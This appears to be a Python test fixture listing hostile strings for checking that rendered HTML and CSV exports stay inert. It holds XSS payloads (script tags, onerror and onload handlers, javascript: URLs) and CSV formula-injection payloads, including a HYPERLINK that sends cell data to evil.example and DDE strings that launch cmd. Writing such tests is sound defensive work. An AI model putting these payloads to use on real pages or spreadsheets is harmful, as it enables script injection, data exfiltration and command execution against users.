"""Hostile strings for end-to-end tests (feed item -> review queue -> incident -> public page,
API and CSV). Check rendered HTML with htmlcheck.executable_html_problems and CSV cells with
`csv_cell_is_inert`."""

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">tab</a>',
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "</textarea><script>alert(1)</script>",
    "{{ 7|add:7 }}{% now 'Y' %}",  # template injection must stay literal text
]

# A spreadsheet treats a cell starting with these as a formula.
CSV_FORMULA_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell_is_inert(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS)
